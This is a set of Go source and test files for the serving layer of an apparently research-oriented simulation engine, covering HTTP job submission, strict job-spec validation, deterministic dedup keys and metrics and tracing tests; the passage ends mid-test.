	return &agg, nil
}

// Submit enqueues a job asynchronously (POST /v1/jobs), retrying
// throttled submissions per the Retry policy.
func (c *Client) Submit(ctx context.Context, spec JobSpec) (*JobInfo, error) {
	resp, err := c.postSpec(ctx, "/v1/jobs", spec)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusAccepted {
		return nil, decodeErr(resp)
	}
	var info JobInfo
	if err := json.NewDecoder(resp.Body).Decode(&info); err != nil {
		return nil, err
	}
	return &info, nil
}

// Status fetches a job's current state.
func (c *Client) Status(ctx context.Context, id string) (*JobInfo, error) {
	return c.jobCall(ctx, http.MethodGet, "/v1/jobs/"+id)
}

// Cancel requests cancellation of a queued or running job.
func (c *Client) Cancel(ctx context.Context, id string) (*JobInfo, error) {
	return c.jobCall(ctx, http.MethodPost, "/v1/jobs/"+id+"/cancel")
}

func (c *Client) jobCall(ctx context.Context, method, path string) (*JobInfo, error) {
	req, err := http.NewRequestWithContext(ctx, method, c.url(path), nil)
	if err != nil {
		return nil, err
	}
	resp, err := c.http().Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return nil, decodeErr(resp)
	}
	var info JobInfo
	if err := json.NewDecoder(resp.Body).Decode(&info); err != nil {
		return nil, err
	}
	return &info, nil
}

// Results streams a job's NDJSON results to w, blocking until the job
// finishes (or ctx is canceled).
func (c *Client) Results(ctx context.Context, id string, w io.Writer) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, c.url("/v1/jobs/"+id+"/results"), nil)
	if err != nil {
		return err
	}
	resp, err := c.http().Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return decodeErr(resp)
	}
	_, err = io.Copy(w, resp.Body)
	return err
}

// Metrics fetches the daemon's JSON metrics snapshot (GET /metrics).
// The fleet aggregator scrapes workers through this and merges the
// snapshots into the fleet-wide view.
func (c *Client) Metrics(ctx context.Context) (*obs.Snapshot, error) {
	var snap obs.Snapshot
	if err := c.getJSON(ctx, "/metrics", &snap); err != nil {
		return nil, err
	}
	return &snap, nil
}

// Spans fetches the daemon's recorded spans (GET /v1/spans), optionally
// filtered to one trace id.
func (c *Client) Spans(ctx context.Context, trace string) ([]obs.Span, error) {
	path := "/v1/spans"
	if trace != "" {
		path += "?trace=" + trace
	}
	var spans []obs.Span
	if err := c.getJSON(ctx, path, &spans); err != nil {
		return nil, err
	}
	return spans, nil
}

// getJSON GETs path and decodes the 200 body into out.
func (c *Client) getJSON(ctx context.Context, path string, out any) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, c.url(path), nil)
	if err != nil {
		return err
	}
	resp, err := c.http().Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return decodeErr(resp)
	}
	return json.NewDecoder(resp.Body).Decode(out)
}

// APIError is a non-2xx daemon response.
type APIError struct {
	Status     int
	Msg        string
	RetryAfter string
}

func (e *APIError) Error() string {
	if e.RetryAfter != "" {
		return fmt.Sprintf("serve: HTTP %d: %s (retry after %ss)", e.Status, e.Msg, e.RetryAfter)
	}
	return fmt.Sprintf("serve: HTTP %d: %s", e.Status, e.Msg)
}

// decodeErr turns a non-2xx response into an *APIError carrying the
// server's JSON error message. When the body is not the daemon's
// {"error": ...} form (a proxy page, a panic trace), a trimmed snippet
// of the raw body is surfaced instead of the bare status line so the
// caller's error says what the server actually sent.
func decodeErr(resp *http.Response) error {
	raw, _ := io.ReadAll(io.LimitReader(resp.Body, 4096))
	msg := resp.Status
	var body struct {
		Error string `json:"error"`
	}
	if json.Unmarshal(raw, &body) == nil && body.Error != "" {
		msg = body.Error
	} else if snippet := strings.TrimSpace(string(raw)); snippet != "" {
		const maxSnippet = 200
		if len(snippet) > maxSnippet {
			snippet = snippet[:maxSnippet] + "..."
		}
		msg = resp.Status + ": " + snippet
	}
	return &APIError{
		Status:     resp.StatusCode,
		Msg:        msg,
		RetryAfter: resp.Header.Get("Retry-After"),
	}
}
