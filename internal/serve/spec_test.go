package serve

import (
	"bytes"
	"reflect"
	"strings"
	"testing"

	"injectable/internal/campaign"
)

func TestDecodeJobSpecValid(t *testing.T) {
	spec, err := DecodeJobSpec([]byte(
		`{"experiment":"scenarioA","target":"keyfob","trials":10,"seed_base":42,"priority":3,"timeout_ms":1000}`))
	if err != nil {
		t.Fatal(err)
	}
	want := JobSpec{Experiment: "scenarioA", Target: "keyfob", Trials: 10,
		SeedBase: 42, Priority: 3, TimeoutMS: 1000}
	if !reflect.DeepEqual(spec, want) {
		t.Fatalf("decoded %+v, want %+v", spec, want)
	}
}

func TestDecodeJobSpecRejects(t *testing.T) {
	cases := map[string]string{
		"unknown field":      `{"experiment":"exp1","bogus":1}`,
		"trailing data":      `{"experiment":"exp1"}{}`,
		"missing experiment": `{"trials":3}`,
		"trials too large":   `{"experiment":"exp1","trials":501}`,
		"negative trials":    `{"experiment":"exp1","trials":-1}`,
		"priority too large": `{"experiment":"exp1","priority":10}`,
		"negative timeout":   `{"experiment":"exp1","timeout_ms":-5}`,
		"not json":           `hello`,
		"empty":              ``,
	}
	for name, body := range cases {
		if _, err := DecodeJobSpec([]byte(body)); err == nil {
			t.Errorf("%s: decoded without error: %s", name, body)
		}
	}
}

func TestDecodeJobSpecSizeCap(t *testing.T) {
	big := `{"experiment":"` + strings.Repeat("x", maxSpecBytes) + `"}`
	if _, err := DecodeJobSpec([]byte(big)); err == nil {
		t.Fatal("oversized spec decoded without error")
	}
}

func TestNormalizeDefaultsAndIdempotence(t *testing.T) {
	n := JobSpec{Experiment: "exp1"}.Normalize()
	if n.Trials != 25 || n.SeedBase != 1000 {
		t.Fatalf("normalize defaults = trials %d, seed %d; want 25, 1000", n.Trials, n.SeedBase)
	}
	if n2 := n.Normalize(); !reflect.DeepEqual(n2, n) {
		t.Fatalf("normalize not idempotent: %+v vs %+v", n2, n)
	}
}

func TestKeyCanonicalization(t *testing.T) {
	base := JobSpec{Experiment: "scenarioA", Target: "lightbulb"}
	// Defaults and explicit defaults hash identically.
	explicit := base
	explicit.Trials, explicit.SeedBase = 25, 1000
	if base.Key() != explicit.Key() {
		t.Error("spec with default trials/seed keys differently from explicit defaults")
	}
	// Scheduling knobs are excluded from the key.
	sched := explicit
	sched.Priority, sched.TimeoutMS = 9, 60000
	if sched.Key() != explicit.Key() {
		t.Error("priority/timeout changed the dedup key")
	}
	// Result-determining fields are included.
	for name, mut := range map[string]JobSpec{
		"experiment": {Experiment: "scenarioB", Target: "lightbulb", Trials: 25, SeedBase: 1000},
		"target":     {Experiment: "scenarioA", Target: "keyfob", Trials: 25, SeedBase: 1000},
		"trials":     {Experiment: "scenarioA", Target: "lightbulb", Trials: 26, SeedBase: 1000},
		"seed":       {Experiment: "scenarioA", Target: "lightbulb", Trials: 25, SeedBase: 1001},
	} {
		if mut.Key() == explicit.Key() {
			t.Errorf("changing %s did not change the dedup key", name)
		}
	}
}

func TestRegistryValidate(t *testing.T) {
	r := DefaultRegistry()
	if _, err := r.Validate(JobSpec{Experiment: "nope"}); err == nil {
		t.Error("unknown experiment validated")
	}
	if _, err := r.Validate(JobSpec{Experiment: "exp1", Target: "lightbulb"}); err == nil {
		t.Error("sweep with a target validated")
	}
	if _, err := r.Validate(JobSpec{Experiment: "scenarioA"}); err == nil {
		t.Error("scenario without target validated")
	}
	if _, err := r.Validate(JobSpec{Experiment: "scenarioA", Target: "toaster"}); err == nil {
		t.Error("scenario with bogus target validated")
	}
	norm, err := r.Validate(JobSpec{Experiment: "scenarioA", Target: "smartwatch"})
	if err != nil {
		t.Fatal(err)
	}
	if norm.Trials != 25 {
		t.Errorf("validate did not normalize: %+v", norm)
	}
	if _, err := r.Validate(JobSpec{Experiment: "keystrokes"}); err != nil {
		t.Errorf("keystrokes (targetless scenario) rejected: %v", err)
	}
}

func TestPointRangeKeyAndValidate(t *testing.T) {
	full := JobSpec{Experiment: "exp1", Trials: 2}
	shard := full
	shard.PointStart, shard.PointCount = 2, 2
	if shard.Key() == full.Key() {
		t.Error("point range did not change the dedup key")
	}
	other := full
	other.PointStart, other.PointCount = 2, 3
	if other.Key() == shard.Key() {
		t.Error("different point ranges share a dedup key")
	}

	r := DefaultRegistry()
	if _, err := r.Validate(shard); err != nil {
		t.Errorf("valid point range rejected: %v", err)
	}
	// exp1 has 6 points; a range past the end must be rejected at admission.
	bad := full
	bad.PointStart = 99
	if _, err := r.Validate(bad); err == nil {
		t.Error("out-of-range point_start validated")
	}
	bad = full
	bad.PointStart, bad.PointCount = 4, 5
	if _, err := r.Validate(bad); err == nil {
		t.Error("overlong point range validated")
	}
}

// TestPointRangeSlicesStream checks a sharded job's result lines are the
// exact byte subrange of the full campaign's stream: same points, same
// seeds, same values — only the header/trailer frame differs. This is the
// property the fabric's cross-node merge is built on.
func TestPointRangeSlicesStream(t *testing.T) {
	r := DefaultRegistry()
	render := func(spec JobSpec) []byte {
		t.Helper()
		cspec, err := r.Build(spec)
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		runner := campaign.Runner{Workers: 2, Sinks: []campaign.Sink{campaign.NewNDJSON(&buf)}}
		if _, err := runner.Run(cspec); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes()
	}
	stripFrame := func(stream []byte) []byte {
		t.Helper()
		head := bytes.IndexByte(stream, '\n')
		tail := bytes.LastIndexByte(stream[:len(stream)-1], '\n')
		if head < 0 || tail < head {
			t.Fatalf("stream too short: %q", stream)
		}
		return stream[head+1 : tail+1]
	}

	full := stripFrame(render(JobSpec{Experiment: "exp1", Trials: 2}))
	var sharded []byte
	for start := 0; start < 6; start += 2 {
		spec := JobSpec{Experiment: "exp1", Trials: 2, PointStart: start, PointCount: 2}
		sharded = append(sharded, stripFrame(render(spec))...)
	}
	if !bytes.Equal(full, sharded) {
		t.Fatalf("concatenated shard payloads differ from the full run:\nfull:\n%s\nsharded:\n%s", full, sharded)
	}
}

func TestWarmupKeyAndValidate(t *testing.T) {
	if _, err := DecodeJobSpec([]byte(`{"experiment":"exp1","warmup":"bogus"}`)); err == nil {
		t.Error("unknown warmup decoded without error")
	}
	spec, err := DecodeJobSpec([]byte(`{"experiment":"exp1","warmup":"shared"}`))
	if err != nil {
		t.Fatal(err)
	}
	if spec.Warmup != "shared" {
		t.Fatalf("decoded warmup %q", spec.Warmup)
	}

	full := JobSpec{Experiment: "exp1", Trials: 2}
	forked := full
	forked.Warmup = "shared"
	if forked.Key() == full.Key() {
		t.Error("warmup mode did not change the dedup key")
	}
	ref := full
	ref.Warmup = "shared-fresh"
	if ref.Key() == forked.Key() {
		t.Error("shared and shared-fresh share a dedup key")
	}

	r := DefaultRegistry()
	if _, err := r.Validate(forked); err != nil {
		t.Errorf("sweep with warmup rejected: %v", err)
	}
	scenario := JobSpec{Experiment: "scenarioA", Target: "lightbulb", Warmup: "shared"}
	if _, err := r.Validate(scenario); err == nil {
		t.Error("scenario job with a warmup validated")
	}
}

// TestWarmupStreamsMatch is the serving layer's differential determinism
// check: the same sweep job served in fork mode and in its fresh-world
// reference mode must stream byte-identical bodies.
func TestWarmupStreamsMatch(t *testing.T) {
	r := DefaultRegistry()
	render := func(spec JobSpec) []byte {
		t.Helper()
		cspec, err := r.Build(spec)
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		runner := campaign.Runner{Workers: 3, Sinks: []campaign.Sink{campaign.NewNDJSON(&buf)}}
		if _, err := runner.Run(cspec); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes()
	}
	forked := render(JobSpec{Experiment: "exp1", Trials: 2, Warmup: "shared"})
	fresh := render(JobSpec{Experiment: "exp1", Trials: 2, Warmup: "shared-fresh"})
	if !bytes.Equal(forked, fresh) {
		t.Fatalf("fork and fresh-reference streams differ:\nforked:\n%s\nfresh:\n%s", forked, fresh)
	}
}
