package serve

import (
	"strings"
	"testing"
)

func TestDecodeJobSpecValid(t *testing.T) {
	spec, err := DecodeJobSpec([]byte(
		`{"experiment":"scenarioA","target":"keyfob","trials":10,"seed_base":42,"priority":3,"timeout_ms":1000}`))
	if err != nil {
		t.Fatal(err)
	}
	want := JobSpec{Experiment: "scenarioA", Target: "keyfob", Trials: 10,
		SeedBase: 42, Priority: 3, TimeoutMS: 1000}
	if spec != want {
		t.Fatalf("decoded %+v, want %+v", spec, want)
	}
}

func TestDecodeJobSpecRejects(t *testing.T) {
	cases := map[string]string{
		"unknown field":      `{"experiment":"exp1","bogus":1}`,
		"trailing data":      `{"experiment":"exp1"}{}`,
		"missing experiment": `{"trials":3}`,
		"trials too large":   `{"experiment":"exp1","trials":501}`,
		"negative trials":    `{"experiment":"exp1","trials":-1}`,
		"priority too large": `{"experiment":"exp1","priority":10}`,
		"negative timeout":   `{"experiment":"exp1","timeout_ms":-5}`,
		"not json":           `hello`,
		"empty":              ``,
	}
	for name, body := range cases {
		if _, err := DecodeJobSpec([]byte(body)); err == nil {
			t.Errorf("%s: decoded without error: %s", name, body)
		}
	}
}

func TestDecodeJobSpecSizeCap(t *testing.T) {
	big := `{"experiment":"` + strings.Repeat("x", maxSpecBytes) + `"}`
	if _, err := DecodeJobSpec([]byte(big)); err == nil {
		t.Fatal("oversized spec decoded without error")
	}
}

func TestNormalizeDefaultsAndIdempotence(t *testing.T) {
	n := JobSpec{Experiment: "exp1"}.Normalize()
	if n.Trials != 25 || n.SeedBase != 1000 {
		t.Fatalf("normalize defaults = trials %d, seed %d; want 25, 1000", n.Trials, n.SeedBase)
	}
	if n2 := n.Normalize(); n2 != n {
		t.Fatalf("normalize not idempotent: %+v vs %+v", n2, n)
	}
}

func TestKeyCanonicalization(t *testing.T) {
	base := JobSpec{Experiment: "scenarioA", Target: "lightbulb"}
	// Defaults and explicit defaults hash identically.
	explicit := base
	explicit.Trials, explicit.SeedBase = 25, 1000
	if base.Key() != explicit.Key() {
		t.Error("spec with default trials/seed keys differently from explicit defaults")
	}
	// Scheduling knobs are excluded from the key.
	sched := explicit
	sched.Priority, sched.TimeoutMS = 9, 60000
	if sched.Key() != explicit.Key() {
		t.Error("priority/timeout changed the dedup key")
	}
	// Result-determining fields are included.
	for name, mut := range map[string]JobSpec{
		"experiment": {Experiment: "scenarioB", Target: "lightbulb", Trials: 25, SeedBase: 1000},
		"target":     {Experiment: "scenarioA", Target: "keyfob", Trials: 25, SeedBase: 1000},
		"trials":     {Experiment: "scenarioA", Target: "lightbulb", Trials: 26, SeedBase: 1000},
		"seed":       {Experiment: "scenarioA", Target: "lightbulb", Trials: 25, SeedBase: 1001},
	} {
		if mut.Key() == explicit.Key() {
			t.Errorf("changing %s did not change the dedup key", name)
		}
	}
}

func TestRegistryValidate(t *testing.T) {
	r := DefaultRegistry()
	if _, err := r.Validate(JobSpec{Experiment: "nope"}); err == nil {
		t.Error("unknown experiment validated")
	}
	if _, err := r.Validate(JobSpec{Experiment: "exp1", Target: "lightbulb"}); err == nil {
		t.Error("sweep with a target validated")
	}
	if _, err := r.Validate(JobSpec{Experiment: "scenarioA"}); err == nil {
		t.Error("scenario without target validated")
	}
	if _, err := r.Validate(JobSpec{Experiment: "scenarioA", Target: "toaster"}); err == nil {
		t.Error("scenario with bogus target validated")
	}
	norm, err := r.Validate(JobSpec{Experiment: "scenarioA", Target: "smartwatch"})
	if err != nil {
		t.Fatal(err)
	}
	if norm.Trials != 25 {
		t.Errorf("validate did not normalize: %+v", norm)
	}
	if _, err := r.Validate(JobSpec{Experiment: "keystrokes"}); err != nil {
		t.Errorf("keystrokes (targetless scenario) rejected: %v", err)
	}
}
