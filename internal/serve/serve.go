// Package serve turns the campaign engine into a long-lived service: a
// daemon that accepts experiment and attack-scenario jobs over HTTP/JSON,
// validates them against a registry derived from internal/experiments,
// and executes them on shared campaign worker pools.
//
// The serving layer adds what the batch CLIs cannot offer:
//
//   - Admission control: a bounded priority-FIFO queue; a full queue
//     rejects with 429 and a Retry-After hint instead of blocking.
//   - Deduplication: jobs are keyed by a canonical hash of their
//     normalized spec. Identical in-flight submissions collapse onto one
//     execution (singleflight) and completed results are kept in an LRU
//     cache — and because campaign result streams are deterministic, a
//     cached response is byte-identical to a live run of the same spec.
//   - Streaming: per-trial results flow to every subscriber as NDJSON (or
//     SSE) in deterministic ordinal order while the campaign runs.
//   - Lifecycle: per-job deadlines and cancellation ride the
//     context.Context plumbed through campaign.RunContext; SIGTERM drain
//     finishes every accepted job while rejecting new ones.
//
// Everything is observable through an obs.Hub: queue depth, in-flight
// gauge, admission rejects, cache hit/miss counters and end-to-end
// latency histograms.
package serve

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"strconv"

	"injectable/internal/experiments"
	"injectable/internal/scenario"
)

// Limits bound what a single job may ask for; they are admission policy,
// not correctness constraints.
const (
	// MaxTrials caps trials per job (a 500-trial scenario job is minutes
	// of simulation — beyond that, split the work into several jobs).
	MaxTrials = 500
	// MaxPriority is the highest admission priority (0 is the default and
	// lowest; higher priorities dequeue first).
	MaxPriority = 9
	// maxSpecBytes bounds the request body the decoder will look at.
	maxSpecBytes = 1 << 16
	// maxPoints bounds point_start/point_count at the decoder (no real
	// sweep has more points; the registry enforces the exact range).
	maxPoints = 1 << 20
)

// JobSpec is the wire form of one campaign job.
type JobSpec struct {
	// Experiment names a registry entry: a sweep ("exp1", "ablation-sca",
	// …) or a scenario ("scenarioA", …, "keystrokes").
	Experiment string `json:"experiment"`
	// Target selects the scenario's victim device ("lightbulb", "keyfob",
	// "smartwatch"). Sweeps and the keystrokes scenario take none.
	Target string `json:"target,omitempty"`
	// Trials is the per-point trial count (0 = the paper's 25).
	Trials int `json:"trials,omitempty"`
	// SeedBase roots every derived trial seed (0 = 1000, the CLI default).
	SeedBase uint64 `json:"seed_base,omitempty"`
	// Priority orders admission: higher pops first, FIFO within a level.
	Priority int `json:"priority,omitempty"`
	// TimeoutMS is the job's run deadline in milliseconds (0 = server
	// default). It does not affect results, only whether they arrive, so
	// it is excluded from the dedup key.
	TimeoutMS int64 `json:"timeout_ms,omitempty"`
	// PointStart and PointCount restrict the job to a contiguous range of
	// the experiment's sweep points: [PointStart, PointStart+PointCount),
	// with PointCount 0 meaning "through the last point". (0, 0) runs the
	// whole experiment. The distributed campaign fabric shards sweeps
	// along this axis; the range changes which results the stream holds,
	// so unlike priority/timeout it participates in the dedup key.
	PointStart int `json:"point_start,omitempty"`
	PointCount int `json:"point_count,omitempty"`
	// Warmup selects the sweep's trial execution strategy: "" (each trial
	// builds its own world, the historical default), "shared" (trials fork
	// a per-point warm snapshot) or "shared-fresh" (the fork path's
	// differential reference). "shared" and "shared-fresh" produce
	// byte-identical streams to each other but draw warm-phase randomness
	// from a different stream than "", so the mode participates in the
	// dedup key. Scenario jobs reject a warmup.
	Warmup string `json:"warmup,omitempty"`
	// Scenario carries an inline declarative world spec
	// (internal/scenario) instead of a catalog experiment name. When set,
	// Experiment must be empty or "scenario" and Target empty; the job
	// compiles the spec into its campaign. DecodeJobSpec (and
	// ScenarioJobSpec, the programmatic entry) validate the payload and
	// rewrite it to its canonical encoding, so the dedup key — which
	// hashes these bytes — is identical for every spelling of the same
	// world, on every node.
	Scenario json.RawMessage `json:"scenario,omitempty"`
}

// ScenarioExperiment is the Experiment value of normalized inline-
// scenario jobs.
const ScenarioExperiment = "scenario"

// DecodeJobSpec parses a job spec strictly: unknown fields, trailing
// garbage and out-of-range values are errors. It does not check the
// experiment name against a registry — that is the server's job, so the
// decoder stays a pure function fit for fuzzing.
func DecodeJobSpec(data []byte) (JobSpec, error) {
	var spec JobSpec
	if len(data) > maxSpecBytes {
		return spec, fmt.Errorf("serve: job spec exceeds %d bytes", maxSpecBytes)
	}
	dec := json.NewDecoder(bytes.NewReader(data))
	dec.DisallowUnknownFields()
	if err := dec.Decode(&spec); err != nil {
		return JobSpec{}, fmt.Errorf("serve: decoding job spec: %w", err)
	}
	if dec.More() {
		return JobSpec{}, errors.New("serve: trailing data after job spec")
	}
	if err := spec.check(); err != nil {
		return JobSpec{}, err
	}
	if len(spec.Scenario) > 0 {
		canon, err := canonicalScenario(spec)
		if err != nil {
			return JobSpec{}, err
		}
		spec.Scenario = canon
	}
	return spec, nil
}

// canonicalScenario strict-decodes, validates and canonicalizes an
// inline scenario payload. Validation here is still registry-independent
// (the scenario package is pure), so the decoder remains a pure function;
// rewriting to the canonical bytes is what gives equivalent spellings of
// one world equal dedup keys.
func canonicalScenario(spec JobSpec) (json.RawMessage, error) {
	sp, err := scenario.DecodeSpec(spec.Scenario)
	if err != nil {
		return nil, fmt.Errorf("serve: scenario: %w", err)
	}
	if err := scenario.Validate(sp, spec.Normalize().Trials, scenario.DefaultLimits); err != nil {
		return nil, fmt.Errorf("serve: scenario: %w", err)
	}
	return scenario.EncodeCanonical(sp)
}

// ScenarioJobSpec embeds a raw declarative scenario into base: the spec
// is strictly decoded, validated against the admission limits and
// rewritten to its canonical encoding, so the returned JobSpec computes
// the same dedup key a daemon would — which is what lets clients and the
// fabric coordinator key caches and journals before ever talking to a
// worker.
func ScenarioJobSpec(raw []byte, base JobSpec) (JobSpec, error) {
	base.Experiment = ScenarioExperiment
	base.Target = ""
	base.Scenario = raw
	if err := base.check(); err != nil {
		return JobSpec{}, err
	}
	canon, err := canonicalScenario(base)
	if err != nil {
		return JobSpec{}, err
	}
	base.Scenario = canon
	return base, nil
}

// check enforces the decoder-level bounds (registry-independent).
func (s JobSpec) check() error {
	if s.Experiment == "" && len(s.Scenario) == 0 {
		return errors.New("serve: job spec missing experiment")
	}
	if len(s.Scenario) > 0 {
		if s.Experiment != "" && s.Experiment != ScenarioExperiment {
			return fmt.Errorf("serve: experiment %q cannot carry an inline scenario", s.Experiment)
		}
		if s.Target != "" {
			return errors.New("serve: scenario jobs take no target")
		}
	}
	if s.Trials < 0 || s.Trials > MaxTrials {
		return fmt.Errorf("serve: trials %d out of range [0,%d]", s.Trials, MaxTrials)
	}
	if s.Priority < 0 || s.Priority > MaxPriority {
		return fmt.Errorf("serve: priority %d out of range [0,%d]", s.Priority, MaxPriority)
	}
	if s.TimeoutMS < 0 {
		return fmt.Errorf("serve: negative timeout_ms %d", s.TimeoutMS)
	}
	if s.PointStart < 0 || s.PointStart > maxPoints {
		return fmt.Errorf("serve: point_start %d out of range [0,%d]", s.PointStart, maxPoints)
	}
	if s.PointCount < 0 || s.PointCount > maxPoints {
		return fmt.Errorf("serve: point_count %d out of range [0,%d]", s.PointCount, maxPoints)
	}
	if !experiments.ValidWarmup(s.Warmup) {
		return fmt.Errorf("serve: unknown warmup %q (want %q or %q)",
			s.Warmup, experiments.WarmupShared, experiments.WarmupSharedFresh)
	}
	return nil
}

// Normalize applies the spec defaults (trials 25, seed base 1000 — the
// same defaults the CLI applies), so two specs that would run the same
// campaign normalize to the same value. Normalize is idempotent.
func (s JobSpec) Normalize() JobSpec {
	if s.Trials == 0 {
		s.Trials = 25
	}
	if s.SeedBase == 0 {
		s.SeedBase = 1000
	}
	if len(s.Scenario) > 0 {
		s.Experiment = ScenarioExperiment
	}
	return s
}

// Key returns the canonical dedup/cache key: a SHA-256 over the fields
// that determine the result stream — experiment, target, trials, seed
// base, and the point range when one is set — after normalization.
// Priority and timeout shape scheduling, not results, and are
// deliberately excluded. A full-campaign spec (no point range) hashes
// exactly as it did before ranges existed, so fleet-wide dedup keys stay
// stable across daemon versions; a shard's key extends the campaign hash
// with its range, which is what makes shard keys canonical across the
// fleet (same spec + same range → same key on every node).
// Key is on the cache-hit hot path, so it renders the preimage into a
// small append buffer and hashes with sha256.Sum256 instead of streaming
// fmt.Fprintf through a sha256.New writer; the preimage bytes — and
// therefore every key — are identical to what earlier daemon versions
// produced.
func (s JobSpec) Key() string {
	n := s.Normalize()
	buf := make([]byte, 0, 96)
	buf = append(buf, n.Experiment...)
	buf = append(buf, 0)
	buf = append(buf, n.Target...)
	buf = append(buf, 0)
	buf = strconv.AppendInt(buf, int64(n.Trials), 10)
	buf = append(buf, 0)
	buf = strconv.AppendUint(buf, n.SeedBase, 10)
	if n.PointStart != 0 || n.PointCount != 0 {
		buf = append(buf, "\x00points\x00"...)
		buf = strconv.AppendInt(buf, int64(n.PointStart), 10)
		buf = append(buf, 0)
		buf = strconv.AppendInt(buf, int64(n.PointCount), 10)
	}
	// Like the point range, the warmup mode extends the preimage only when
	// set, so pre-existing keys are unchanged.
	if n.Warmup != "" {
		buf = append(buf, "\x00warmup\x00"...)
		buf = append(buf, n.Warmup...)
	}
	// An inline scenario extends the preimage with its canonical spec
	// bytes (DecodeJobSpec/ScenarioJobSpec rewrite the payload), so equal
	// worlds hash equal whatever the author's field order or default
	// spelling — and catalog job keys stay byte-stable.
	if len(n.Scenario) > 0 {
		buf = append(buf, "\x00scenario\x00"...)
		buf = append(buf, n.Scenario...)
	}
	sum := sha256.Sum256(buf)
	var hx [64]byte
	hex.Encode(hx[:], sum[:])
	return string(hx[:32])
}
