package serve

import (
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"injectable/internal/obs"
)

// TestMetricsPromExposition: /metrics?format=prom renders the hub
// snapshot in text exposition form, parseable by the strict in-repo
// parser, and the http_errors counter carries a code label.
func TestMetricsPromExposition(t *testing.T) {
	hub := obs.NewHub()
	s := NewServer(Config{Registry: stubRegistry(nil, nil, nil), Hub: hub})
	defer s.Close()
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	// One good run plus one invalid spec so both success metrics and an
	// http_errors{code="400"} series exist.
	resp, _ := postRun(t, ts.URL, `{"experiment":"stub","trials":4,"seed_base":9}`)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("run: HTTP %d", resp.StatusCode)
	}
	resp, _ = postRun(t, ts.URL, `{"experiment":"nope"}`)
	if resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("bad spec: HTTP %d, want 400", resp.StatusCode)
	}

	promResp, err := http.Get(ts.URL + "/metrics?format=prom")
	if err != nil {
		t.Fatal(err)
	}
	defer promResp.Body.Close()
	if ct := promResp.Header.Get("Content-Type"); ct != obs.PromContentType {
		t.Errorf("content type %q, want %q", ct, obs.PromContentType)
	}
	buf := make([]byte, 1<<20)
	n, _ := promResp.Body.Read(buf)
	for {
		m, err := promResp.Body.Read(buf[n:])
		n += m
		if err != nil {
			break
		}
	}
	fams, err := obs.ParsePromText(buf[:n])
	if err != nil {
		t.Fatalf("exposition failed strict parse: %v\n%s", err, buf[:n])
	}
	errFam, ok := fams["serve_http_errors"]
	if !ok {
		t.Fatalf("no serve_http_errors family in %v", keys(fams))
	}
	found := false
	for _, sm := range errFam.Samples {
		if sm.Label("code") == "400" && sm.Value >= 1 {
			found = true
		}
	}
	if !found {
		t.Errorf("no serve_http_errors{code=\"400\"} >= 1: %+v", errFam.Samples)
	}
	if _, ok := fams["serve_jobs_done"]; !ok {
		t.Error("serve_jobs_done missing from exposition")
	}
	if _, ok := fams["serve_job_e2e_ms"]; !ok {
		t.Error("serve_job_e2e_ms histogram missing from exposition")
	}
}

func keys[V any](m map[string]V) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	return out
}

// TestStreamBytesCounter: every byte streamed to a client is counted.
func TestStreamBytesCounter(t *testing.T) {
	hub := obs.NewHub()
	s := NewServer(Config{Registry: stubRegistry(nil, nil, nil), Hub: hub})
	defer s.Close()
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	resp, body := postRun(t, ts.URL, `{"experiment":"stub","trials":6,"seed_base":3}`)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("run: HTTP %d", resp.StatusCode)
	}
	snap := hub.Snapshot()
	var egress int64
	for _, c := range snap.Counters {
		if c.Name == "serve.stream_bytes" {
			egress = c.Value
		}
	}
	if egress != int64(len(body)) {
		t.Errorf("serve.stream_bytes = %d, want %d (body length)", egress, len(body))
	}
}

// TestTraceHeaderPropagation: a submitted X-Trace-Id becomes the trace id
// on the job's queue/run spans, and /v1/spans?trace= filters to it.
func TestTraceHeaderPropagation(t *testing.T) {
	hub := obs.NewHub()
	s := NewServer(Config{Registry: stubRegistry(nil, nil, nil), Hub: hub})
	defer s.Close()
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	c := &Client{Base: ts.URL, Trace: "fleet-abc123"}
	if _, err := c.Run(context.Background(), JobSpec{Experiment: "stub", Trials: 3, SeedBase: 11}); err != nil {
		t.Fatal(err)
	}

	spans, err := c.Spans(context.Background(), "fleet-abc123")
	if err != nil {
		t.Fatal(err)
	}
	names := map[string]bool{}
	for _, sp := range spans {
		if sp.Trace != "fleet-abc123" {
			t.Errorf("span %q has trace %q", sp.Name, sp.Trace)
		}
		names[sp.Name] = true
	}
	if !names["queue"] || !names["run"] {
		t.Errorf("missing queue/run spans in trace: %v", names)
	}

	// Without the header, the trace id defaults to the spec key — the
	// fleet-abc123 trace must not pick up this second job's spans.
	plain := &Client{Base: ts.URL}
	if _, err := plain.Run(context.Background(), JobSpec{Experiment: "stub", Trials: 5, SeedBase: 12}); err != nil {
		t.Fatal(err)
	}
	again, err := c.Spans(context.Background(), "fleet-abc123")
	if err != nil {
		t.Fatal(err)
	}
	if len(again) != len(spans) {
		t.Errorf("foreign spans leaked into trace: %d -> %d", len(spans), len(again))
	}
	all, err := c.Spans(context.Background(), "")
	if err != nil {
		t.Fatal(err)
	}
	if len(all) <= len(spans) {
		t.Errorf("unfiltered spans (%d) should exceed one trace's (%d)", len(all), len(spans))
	}
}

// TestClientErrorIncludesServerBody: decodeErr surfaces the JSON error
// message, and falls back to a raw-body snippet for non-JSON responses.
func TestClientErrorIncludesServerBody(t *testing.T) {
	hub := obs.NewHub()
